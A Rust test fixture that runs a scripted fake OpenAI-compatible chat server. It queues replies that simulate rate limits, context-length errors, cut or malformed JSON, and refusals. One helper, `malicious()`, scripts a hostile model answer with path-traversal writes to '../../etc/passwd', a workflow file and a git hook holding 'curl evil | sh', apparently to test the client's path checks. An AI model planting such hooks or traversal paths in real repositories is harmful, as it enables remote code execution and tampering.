//! A scripted fake OpenAI-compatible LLM server for the tests.
//!
//! It runs axum on `127.0.0.1:0` in its own tokio runtime on a background thread, so both sync
//! tests (the binary run as a subprocess) and async tests can use it. Replies come from a queue,
//! consumed in order, then from a default reply (a small valid answer unless changed). Server
//! behaviours that depend on the request rather than on the order — refusing `json_schema` like
//! llama-cpp-python, a context limit, a concurrency limit, a required key, latency — are modes.
//! Every request is recorded.
//!
//! ```ignore
//! let fake = FakeLlm::start();
//! fake.push(Reply::rate_limited(1));
//! fake.push(Reply::answer("done", &[("a.txt", "hi")]));
//! // point the client at fake.url() …
//! assert_eq!(fake.request_count(), 2);
//! ```

use axum::Router;
use axum::body::{Body, Bytes};
use axum::extract::State;
use axum::http::{HeaderMap, Method, StatusCode, Uri};
use axum::response::Response;
use serde_json::{Value, json};
use std::collections::VecDeque;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex, MutexGuard};
use std::time::Duration;

/// One scripted reply.
#[derive(Debug, Clone)]
pub enum Reply {
    /// A valid answer as plain JSON content.
    Answer {
        summary: String,
        files: Vec<(String, String)>,
    },
    /// The same answer inside a ```` ```json ```` fence with prose around it.
    Fenced {
        summary: String,
        files: Vec<(String, String)>,
    },
    /// Any assistant text (`finish_reason: "stop"`), e.g. malformed JSON.
    Content(String),
    /// Assistant text with `finish_reason: "length"` (the answer was cut off).
    Length(String),
    /// A refusal (`content: null`, `refusal: …`).
    Refusal(String),
    /// 429 with the given headers (`retry-after` in seconds, OpenAI reset durations).
    RateLimited {
        retry_after: Option<String>,
        reset_requests: Option<String>,
        reset_tokens: Option<String>,
    },
    /// Any status with a body and extra headers.
    Status {
        status: u16,
        body: String,
        headers: Vec<(String, String)>,
    },
    /// 400 `context_length_exceeded`, OpenAI style.
    ContextLengthExceeded,
    /// 200 with an HTML body (a proxy's error page).
    NonJsonBody,
    /// 200 with a JSON body cut in the middle (complete HTTP message).
    CutJson,
    /// 200 whose `Content-Length` promises more than is sent: the connection ends mid-body.
    TruncatedBody,
    /// 200 with invalid UTF-8 bytes inside the answer's file content.
    InvalidUtf8,
    /// Another reply, after a delay.
    Delayed(Duration, Box<Reply>),
}

impl Reply {
    pub fn answer(summary: &str, files: &[(&str, &str)]) -> Self {
        Reply::Answer {
            summary: summary.into(),
            files: owned(files),
        }
    }

    pub fn fenced(summary: &str, files: &[(&str, &str)]) -> Self {
        Reply::Fenced {
            summary: summary.into(),
            files: owned(files),
        }
    }

    /// Text that is no JSON object at all.
    pub fn malformed() -> Self {
        Reply::Content("Sure! I have made the changes you asked for.".into())
    }

    /// JSON of the wrong shape (no `files`, `summary` a number).
    pub fn wrong_shape() -> Self {
        Reply::Content(r#"{"summary": 42, "changes": []}"#.into())
    }

    /// 429 with `retry-after: <secs>`.
    pub fn rate_limited(secs: u64) -> Self {
        Reply::RateLimited {
            retry_after: Some(secs.to_string()),
            reset_requests: None,
            reset_tokens: None,
        }
    }

    /// 429 with only `x-ratelimit-reset-requests` (an OpenAI duration like `1s`).
    pub fn rate_limited_reset(reset_requests: &str) -> Self {
        Reply::RateLimited {
            retry_after: None,
            reset_requests: Some(reset_requests.into()),
            reset_tokens: None,
        }
    }

    pub fn status(status: u16, body: &str) -> Self {
        Reply::Status {
            status,
            body: body.into(),
            headers: Vec::new(),
        }
    }

    /// 500 with a body.
    pub fn server_error(body: &str) -> Self {
        Reply::status(500, body)
    }

    /// An answer with one file of `bytes` bytes.
    pub fn oversize(bytes: usize) -> Self {
        Reply::Answer {
            summary: "a very large file".into(),
            files: vec![("big.txt".into(), "x".repeat(bytes))],
        }
    }

    /// An answer trying to write where it must not.
    pub fn malicious() -> Self {
        Reply::answer(
            "totally harmless",
            &[
                ("../../etc/passwd", "root::0:0::/:/bin/sh"),
                (".github/workflows/pwn.yml", "on: push"),
                (".git/hooks/pre-commit", "curl evil | sh"),
                ("/abs/path", "x"),
                ("src/ok.rs", "fn ok() {}"),
                ("SRC/OK.rs", "fn dup() {}"),
            ],
        )
    }

    pub fn after(self, delay: Duration) -> Self {
        Reply::Delayed(delay, Box::new(self))
    }
}

fn owned(files: &[(&str, &str)]) -> Vec<(String, String)> {
    files
        .iter()
        .map(|(p, c)| (p.to_string(), c.to_string()))
        .collect()
}

/// One request as the fake saw it.
#[derive(Debug, Clone)]
pub struct Recorded {
    pub method: String,
    pub path: String,
    pub authorization: Option<String>,
    pub content_type: Option<String>,
    /// The parsed JSON body (`Null` when it did not parse).
    pub body: Value,
}

impl Recorded {
    pub fn model(&self) -> Option<&str> {
        self.body["model"].as_str()
    }

    /// `response_format.type`, `None` when no response_format was sent.
    pub fn response_format_type(&self) -> Option<&str> {
        self.body["response_format"]["type"].as_str()
    }

    pub fn messages(&self) -> &[Value] {
        self.body["messages"].as_array().map_or(&[], Vec::as_slice)
    }

    /// Content of the last message with this role.
    pub fn last(&self, role: &str) -> Option<&str> {
        self.messages()
            .iter()
            .rev()
            .find(|m| m["role"] == role)
            .and_then(|m| m["content"].as_str())
    }

    fn prompt_chars(&self) -> usize {
        self.messages()
            .iter()
            .filter_map(|m| m["content"].as_str())
            .map(|c| c.chars().count())
            .sum()
    }
}

#[derive(Default)]
struct Inner {
    queue: VecDeque<Reply>,
    default: Option<Reply>,
    requests: Vec<Recorded>,
    /// llama-cpp-python: answer this status to `response_format.type == json_schema`.
    reject_json_schema: Option<u16>,
    reject_json_object: Option<u16>,
    context_limit_chars: Option<usize>,
    concurrency: Option<(usize, u64)>,
    latency: Duration,
    required_key: Option<String>,
    usage: (u64, u64),
    in_flight: usize,
    served_in_flight: usize,
    peak_served: usize,
}

type Shared = Arc<Mutex<Inner>>;

/// The running fake. Dropping it stops the server.
pub struct FakeLlm {
    addr: SocketAddr,
    state: Shared,
    stop: Option<tokio::sync::oneshot::Sender<()>>,
}

impl FakeLlm {
    pub fn start() -> Self {
        let state: Shared = Arc::new(Mutex::new(Inner {
            usage: (100, 20),
            ..Inner::default()
        }));
        let (addr_tx, addr_rx) = std::sync::mpsc::channel();
        let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
        let shared = state.clone();
        std::thread::Builder::new()
            .name("fake-llm".into())
            .spawn(move || {
                let rt = tokio::runtime::Builder::new_multi_thread()
                    .worker_threads(2)
                    .enable_all()
                    .build()
                    .expect("fake llm runtime");
                rt.block_on(async move {
                    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
                        .await
                        .expect("bind fake llm");
                    addr_tx
                        .send(listener.local_addr().expect("fake llm addr"))
                        .expect("send addr");
                    let app = Router::new().fallback(handle).with_state(shared);
                    let _ = axum::serve(listener, app)
                        .with_graceful_shutdown(async {
                            let _ = stop_rx.await;
                        })
                        .await;
                });
            })
            .expect("spawn fake llm thread");
        let addr = addr_rx.recv().expect("fake llm started");
        Self {
            addr,
            state,
            stop: Some(stop_tx),
        }
    }

    /// Base URL (`http://127.0.0.1:PORT`); the API is at `{url}/chat/completions` (and `/v1/…`).
    pub fn url(&self) -> String {
        format!("http://{}", self.addr)
    }

    fn lock(&self) -> MutexGuard<'_, Inner> {
        self.state.lock().unwrap_or_else(|p| p.into_inner())
    }

    /// Queue one reply.
    pub fn push(&self, reply: Reply) -> &Self {
        self.lock().queue.push_back(reply);
        self
    }

    /// Queue several replies, in order.
    pub fn push_all(&self, replies: impl IntoIterator<Item = Reply>) -> &Self {
        self.lock().queue.extend(replies);
        self
    }

    /// The reply once the queue is empty (default: a valid answer with one file).
    pub fn set_default(&self, reply: Reply) -> &Self {
        self.lock().default = Some(reply);
        self
    }

    /// Answer `status` to requests with `response_format.type == "json_schema"`. 500 mimics
    /// llama-cpp-python (a generic error body); other statuses send an OpenAI-style message
    /// naming `response_format`.
    pub fn reject_json_schema(&self, status: u16) -> &Self {
        self.lock().reject_json_schema = Some(status);
        self
    }

    /// Answer `status` (with a message naming `response_format`) to `json_object` requests.
    pub fn reject_json_object(&self, status: u16) -> &Self {
        self.lock().reject_json_object = Some(status);
        self
    }

    /// 400 `context_length_exceeded` when the messages hold more than `max_chars` characters.
    pub fn context_limit(&self, max_chars: usize) -> &Self {
        self.lock().context_limit_chars = Some(max_chars);
        self
    }

    /// 429 (GitHub Models style, with `retry-after`) when more than `max` requests are in flight.
    pub fn concurrency_limit(&self, max: usize, retry_after_secs: u64) -> &Self {
        self.lock().concurrency = Some((max, retry_after_secs));
        self
    }

    /// Delay before every reply.
    pub fn latency(&self, d: Duration) -> &Self {
        self.lock().latency = d;
        self
    }

    /// 401 unless `Authorization: Bearer <key>`.
    pub fn require_key(&self, key: &str) -> &Self {
        self.lock().required_key = Some(key.into());
        self
    }

    /// Usage reported by every completion (default 100 prompt, 20 completion tokens).
    pub fn set_usage(&self, prompt: u64, completion: u64) -> &Self {
        self.lock().usage = (prompt, completion);
        self
    }

    pub fn requests(&self) -> Vec<Recorded> {
        self.lock().requests.clone()
    }

    pub fn request_count(&self) -> usize {
        self.lock().requests.len()
    }

    /// `response_format.type` of every request, in order.
    pub fn formats(&self) -> Vec<Option<String>> {
        self.lock()
            .requests
            .iter()
            .map(|r| r.response_format_type().map(str::to_string))
            .collect()
    }

    /// Most requests served (not refused by the concurrency limit) at the same time.
    pub fn peak_concurrency(&self) -> usize {
        self.lock().peak_served
    }

    /// Queued replies not consumed yet.
    pub fn pending(&self) -> usize {
        self.lock().queue.len()
    }
}

impl Drop for FakeLlm {
    fn drop(&mut self) {
        if let Some(stop) = self.stop.take() {
            let _ = stop.send(());
        }
    }
}

/// Decrements the in-flight counters when a request ends, also when the client hangs up.
struct InFlight {
    state: Shared,
    served: bool,
}

impl Drop for InFlight {
    fn drop(&mut self) {
        let mut s = self.state.lock().unwrap_or_else(|p| p.into_inner());
        s.in_flight -= 1;
        if self.served {
            s.served_in_flight -= 1;
        }
    }
}

async fn handle(
    State(state): State<Shared>,
    method: Method,
    uri: Uri,
    headers: HeaderMap,
    body: Bytes,
) -> Response {
    let header = |name: &str| {
        headers
            .get(name)
            .and_then(|v| v.to_str().ok())
            .map(str::to_string)
    };
    let recorded = Recorded {
        method: method.to_string(),
        path: uri.path().to_string(),
        authorization: header("authorization"),
        content_type: header("content-type"),
        body: serde_json::from_slice(&body).unwrap_or(Value::Null),
    };
    let mut guard = InFlight {
        state: state.clone(),
        served: false,
    };
    let (reply, latency, usage) = {
        let mut s = state.lock().unwrap_or_else(|p| p.into_inner());
        s.requests.push(recorded.clone());
        s.in_flight += 1;
        match decide(&mut s, &recorded) {
            Decision::Now(resp) => return resp,
            Decision::Serve(reply) => {
                s.served_in_flight += 1;
                s.peak_served = s.peak_served.max(s.served_in_flight);
                guard.served = true;
                (reply, s.latency, s.usage)
            }
        }
    };
    if !latency.is_zero() {
        tokio::time::sleep(latency).await;
    }
    let resp = render(reply, recorded.model().unwrap_or("fake-model"), usage).await;
    drop(guard);
    resp
}

enum Decision {
    Now(Response),
    Serve(Reply),
}

fn decide(s: &mut Inner, req: &Recorded) -> Decision {
    if let Some((max, retry_after)) = s.concurrency
        && s.in_flight > max
    {
        let body = json!({"error": {
            "code": "RateLimitReached",
            "message": format!("Rate limit of {max} per 0s exceeded for UserConcurrentRequests. Please wait {retry_after} seconds before retrying."),
        }});
        return Decision::Now(respond(
            429,
            "application/json",
            body.to_string().into_bytes(),
            &[("retry-after", retry_after.to_string())],
        ));
    }
    let now = |status: u16, body: Value| {
        Decision::Now(respond(
            status,
            "application/json",
            body.to_string().into_bytes(),
            &[],
        ))
    };
    if let Some(key) = &s.required_key
        && req.authorization.as_deref() != Some(format!("Bearer {key}").as_str())
    {
        return now(
            401,
            json!({"error": {"code": "unauthorized", "message": "Bad credentials"}}),
        );
    }
    if req.method != "POST"
        || !matches!(
            req.path.as_str(),
            "/chat/completions" | "/v1/chat/completions"
        )
    {
        return now(
            404,
            json!({"error": {"code": "not_found", "message": "Not Found"}}),
        );
    }
    let rejection = match req.response_format_type() {
        Some("json_schema") => s.reject_json_schema,
        Some("json_object") => s.reject_json_object,
        _ => None,
    };
    if let Some(status) = rejection {
        let kind = req.response_format_type().unwrap_or_default().to_string();
        let body = if status == 500 {
            // llama-cpp-python: an unhandled exception, nothing that names the cause.
            json!({"error": {"message": "Internal Server Error", "type": "internal_server_error", "param": null, "code": null}})
        } else {
            json!({"error": {
                "message": format!("Invalid parameter: 'response_format' of type '{kind}' is not supported with this model."),
                "type": "invalid_request_error", "param": "response_format", "code": null,
            }})
        };
        return now(status, body);
    }
    if let Some(limit) = s.context_limit_chars {
        let chars = req.prompt_chars();
        if chars > limit {
            return now(400, context_error(limit, chars));
        }
    }
    let reply = s
        .queue
        .pop_front()
        .or_else(|| s.default.clone())
        .unwrap_or_else(|| Reply::answer("default answer", &[("README.md", "hello\n")]));
    Decision::Serve(reply)
}

fn context_error(limit: usize, got: usize) -> Value {
    json!({"error": {
        "message": format!("This model's maximum context length is {limit} tokens. However, your messages resulted in {got} tokens. Please reduce the length of the messages."),
        "type": "invalid_request_error", "param": "messages", "code": "context_length_exceeded",
    }})
}

fn respond(status: u16, content_type: &str, body: Vec<u8>, headers: &[(&str, String)]) -> Response {
    let mut b = Response::builder()
        .status(StatusCode::from_u16(status).expect("valid status"))
        .header("content-type", content_type);
    for (k, v) in headers {
        b = b.header(*k, v.as_str());
    }
    b.body(Body::from(body)).expect("response")
}

fn completion(
    model: &str,
    content: Value,
    finish: &str,
    usage: (u64, u64),
    refusal: Value,
) -> Value {
    json!({
        "id": "chatcmpl-fake",
        "object": "chat.completion",
        "created": 1_700_000_000,
        "model": model,
        "choices": [{
            "index": 0,
            "message": {"role": "assistant", "content": content, "refusal": refusal},
            "finish_reason": finish,
        }],
        "usage": {"prompt_tokens": usage.0, "completion_tokens": usage.1, "total_tokens": usage.0 + usage.1},
    })
}

fn answer_json(summary: &str, files: &[(String, String)]) -> String {
    json!({
        "summary": summary,
        "files": files.iter().map(|(p, c)| json!({"path": p, "content": c})).collect::<Vec<_>>(),
    })
    .to_string()
}

fn ok_json(v: Value) -> Response {
    respond(200, "application/json", v.to_string().into_bytes(), &[])
}

async fn render(reply: Reply, model: &str, usage: (u64, u64)) -> Response {
    let mut reply = reply;
    while let Reply::Delayed(d, inner) = reply {
        tokio::time::sleep(d).await;
        reply = *inner;
    }
    let text = |t: String| completion(model, Value::String(t), "stop", usage, Value::Null);
    match reply {
        Reply::Answer { summary, files } => ok_json(text(answer_json(&summary, &files))),
        Reply::Fenced { summary, files } => ok_json(text(format!(
            "Here are the changes.\n\n```json\n{}\n```\n\nLet me know if you need anything else.",
            answer_json(&summary, &files)
        ))),
        Reply::Content(t) => ok_json(text(t)),
        Reply::Length(t) => ok_json(completion(
            model,
            Value::String(t),
            "length",
            usage,
            Value::Null,
        )),
        Reply::Refusal(r) => ok_json(completion(
            model,
            Value::Null,
            "stop",
            usage,
            Value::String(r),
        )),
        Reply::RateLimited {
            retry_after,
            reset_requests,
            reset_tokens,
        } => {
            let mut headers = Vec::new();
            if let Some(v) = retry_after {
                headers.push(("retry-after", v));
            }
            if let Some(v) = reset_requests {
                headers.push(("x-ratelimit-remaining-requests", "0".to_string()));
                headers.push(("x-ratelimit-reset-requests", v));
            }
            if let Some(v) = reset_tokens {
                headers.push(("x-ratelimit-reset-tokens", v));
            }
            let body = json!({"error": {"code": "RateLimitReached", "message": "Rate limit of 15 per 60s exceeded for UserByModelByMinute."}});
            respond(
                429,
                "application/json",
                body.to_string().into_bytes(),
                &headers,
            )
        }
        Reply::Status {
            status,
            body,
            headers,
        } => {
            let headers: Vec<(&str, String)> = headers
                .iter()
                .map(|(k, v)| (k.as_str(), v.clone()))
                .collect();
            let ct = if body.trim_start().starts_with('{') {
                "application/json"
            } else {
                "text/plain"
            };
            respond(status, ct, body.into_bytes(), &headers)
        }
        Reply::ContextLengthExceeded => {
            let body = context_error(8192, 9000);
            respond(400, "application/json", body.to_string().into_bytes(), &[])
        }
        Reply::NonJsonBody => respond(
            200,
            "text/html",
            b"<html><body><h1>502 Bad Gateway</h1></body></html>".to_vec(),
            &[],
        ),
        Reply::CutJson => {
            let full = text(answer_json("cut", &[("a.txt".into(), "a".into())])).to_string();
            respond(
                200,
                "application/json",
                full.as_bytes()[..full.len() / 2].to_vec(),
                &[],
            )
        }
        Reply::TruncatedBody => {
            let full = text(answer_json("cut", &[("a.txt".into(), "a".into())])).to_string();
            let half = full.as_bytes()[..full.len() / 2].to_vec();
            // A stream that sends half the body, then fails: hyper aborts the connection, so the
            // client sees a chunked body that never finishes.
            let chunks: Vec<Result<Bytes, std::io::Error>> = vec![
                Ok(Bytes::from(half)),
                Err(std::io::Error::other("connection lost")),
            ];
            Response::builder()
                .status(200)
                .header("content-type", "application/json")
                .body(Body::from_stream(IterStream(chunks.into_iter())))
                .expect("response")
        }
        Reply::InvalidUtf8 => {
            let mut body = Vec::new();
            body.extend_from_slice(br#"{"id":"chatcmpl-fake","object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content":"{\"summary\":\"bytes\",\"files\":[{\"path\":\"a.txt\",\"content\":\"ok "#);
            body.extend_from_slice(b"\xff\xfe\xc3");
            body.extend_from_slice(br#"\"}]}"},"finish_reason":"stop"}],"usage":{"prompt_tokens":1,"completion_tokens":1,"total_tokens":2}}"#);
            respond(200, "application/json", body, &[])
        }
        Reply::Delayed(..) => unreachable!("unwrapped above"),
    }
}

/// A `Stream` over an iterator.
struct IterStream<I>(I);

impl<I: Iterator + Unpin> futures_core::Stream for IterStream<I> {
    type Item = I::Item;
    fn poll_next(
        mut self: std::pin::Pin<&mut Self>,
        _cx: &mut std::task::Context<'_>,
    ) -> std::task::Poll<Option<Self::Item>> {
        std::task::Poll::Ready(self.0.next())
    }
}
